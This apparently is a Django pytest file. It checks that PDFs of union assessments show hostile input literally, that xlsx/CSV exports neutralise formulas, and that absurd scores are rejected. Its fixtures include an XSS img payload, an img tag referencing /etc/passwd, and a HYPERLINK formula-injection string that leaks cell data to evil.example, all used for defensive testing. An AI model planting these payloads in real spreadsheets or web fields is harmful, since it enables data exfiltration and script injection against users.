"""Hostile text in every user field of the staff home (issue 15 items 3, 4 and 6): PDFs show
it literally and embed nothing, the xlsx export neutralises formulas, and absurd numbers
are a 400, never a 500."""

import io
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from openpyxl import load_workbook
from pypdf import PdfReader

from federation.homes.models import AssessmentItem, Criterion, Level, Round
from tenants.models import Union
from tests.federation.homes.conftest import PDF

pytestmark = pytest.mark.django_db

IMG_FILE = '<img src="/etc/passwd"/>'
IMG_JS = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/x?d="&B3,"查看附件")'


def _text(content: bytes) -> str:
    return "".join(page.extract_text() for page in PdfReader(io.BytesIO(content)).pages)


def _images(content: bytes) -> int:
    count = 0
    for page in PdfReader(io.BytesIO(content)).pages:
        xobjects = page["/Resources"].get("/XObject") or {}
        count += sum(1 for x in xobjects.values() if x.get_object().get("/Subtype") == "/Image")
    return count


@pytest.fixture
def hostile(assessment_a, union_a, fill_and_submit, review, client_for):
    """Every user value the homes documents show is hostile."""
    Union.objects.filter(pk=union_a.pk).update(name=f"{IMG_FILE}工会")
    Round.objects.filter(pk=assessment_a.round_id).update(title=f"{IMG_JS}验收")
    scheme = assessment_a.round.scheme
    Criterion.objects.filter(scheme=scheme).update(category=IMG_FILE, title=IMG_JS)
    for level in Level.objects.filter(scheme=scheme):
        Level.objects.filter(pk=level.pk).update(name=f"{IMG_JS}{level.name}")
    client_for("a_chair", union_a).post(
        f"/api/v1/homes/assessments/{assessment_a.pk}/evidence/",
        {"file": SimpleUploadedFile(f"{IMG_JS}.pdf", PDF), "code": "ZZ01"},
        format="multipart",
    )
    fill_and_submit(assessment_a, union_a)
    AssessmentItem.objects.filter(assessment=assessment_a).update(evidence=f"{IMG_FILE}\n{IMG_JS}")
    assessment_a.survey_note = IMG_FILE
    assessment_a.save(update_fields=["survey_note"])
    review(assessment_a, total="85", comment=IMG_JS)
    return assessment_a


def test_the_certificate_shows_hostile_text_literally(hostile, client_for):
    r = client_for("federation_assessor").get(
        f"/api/v1/homes/assessments/{hostile.pk}/certificate.pdf"
    )
    assert r.status_code == 200
    text = _text(r.content)
    assert IMG_FILE in text
    assert IMG_JS in text
    assert _images(r.content) == 0


@pytest.mark.parametrize("side", ["federation", "union"])
def test_the_printable_self_assessment_shows_hostile_text_literally(hostile, union_a, side):
    from tests.federation.homes.test_pages import login

    if side == "federation":
        r = login("federation_assessor").get(f"/homes/assessments/{hostile.pk}/self-assessment.pdf")
    else:
        r = login("a_chair", union_a).get(f"/homes/{hostile.pk}/self-assessment.pdf")
    assert r.status_code == 200
    text = "".join(_text(r.content).split())  # the table wraps long cells
    assert "".join(IMG_FILE.split()) in text
    assert "".join(IMG_JS.split()) in text
    assert _images(r.content) == 0


def test_the_overview_export_neutralises_formulas(hostile, union_a):
    from tests.federation.homes.test_pages import login

    Union.objects.filter(pk=union_a.pk).update(name=FORMULA)
    r = login("federation_assessor").get("/homes/export.xlsx")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.content)).worksheets[0]
    assert ws.cell(row=2, column=1).value == "'" + FORMULA
    assert ws.cell(row=2, column=1).data_type == "s"
    assert ws.cell(row=2, column=8).value == 85


def test_the_evidence_zip_sheet_neutralises_formulas(hostile):
    from tests.federation.homes.test_pages import login

    AssessmentItem.objects.filter(assessment=hostile).update(evidence=FORMULA)
    r = login("federation_assessor").get(f"/homes/assessments/{hostile.pk}/evidence.zip")
    sheet = zipfile.ZipFile(io.BytesIO(b"".join(r.streaming_content))).read("self-assessment.csv")
    text = sheet.decode("utf-8-sig")
    assert "\"'=HYPERLINK" in text
    assert ",=HYPERLINK" not in text
    assert '"=HYPERLINK' not in text


@pytest.mark.parametrize("value", ["1e30", "1E+30", "-1e30", "NaN", "Infinity", 1e30])
def test_an_absurd_self_score_or_approval_rate_is_a_400(client_for, assessment_a, union_a, value):
    api = client_for("a_chair", union_a)
    url = f"/api/v1/homes/assessments/{assessment_a.pk}/"
    r = api.patch(url, {"items": [{"code": "ZZ01", "self_score": value}]}, format="json")
    assert (r.status_code, list(r.json())) == (400, ["items"])
    r = api.patch(url, {"approval_rate": value}, format="json")
    assert (r.status_code, list(r.json())) == (400, ["approval_rate"])


@pytest.mark.parametrize("value", ["1e30", "9" * 400])
def test_an_absurd_review_score_is_a_400(client_for, assessment_a, union_a, fill_and_submit, value):
    fill_and_submit(assessment_a, union_a)
    r = client_for("federation_assessor").post(
        f"/api/v1/homes/assessments/{assessment_a.pk}/review/",
        {"items": [{"code": "ZZ01", "score": value}], "decision": "save"},
        format="json",
    )
    assert (r.status_code, list(r.json())) == (400, ["items"])
    assert not assessment_a.items.filter(score__isnull=False).exists()


def test_absurd_scheme_points_and_rule_shares_are_a_400(client_for):
    from tests.federation.homes.test_bad_input import GOOD_SCHEME

    api = client_for("federation_assessor")
    body = {**GOOD_SCHEME, "levels": [{"name": "L", "min_score": "1e30"}]}
    assert api.post("/api/v1/homes/schemes/", body, format="json").status_code == 400
    r = client_for("federation_admin").post(
        "/api/v1/homes/rules/",
        {"effective_from": "2030-01-01", "member_share_min": "1e30"},
        format="json",
    )
    assert (r.status_code, list(r.json())) == (400, ["member_share_min"])


def test_an_evidence_longer_than_a_page_prints_over_pages(hostile, union_a):
    from tests.federation.homes.test_pages import login

    AssessmentItem.objects.filter(assessment=hostile).update(evidence="长" * 2500)
    r = login("a_chair", union_a).get(f"/homes/{hostile.pk}/self-assessment.pdf")
    assert r.status_code == 200
    assert len(PdfReader(io.BytesIO(r.content)).pages) >= 2
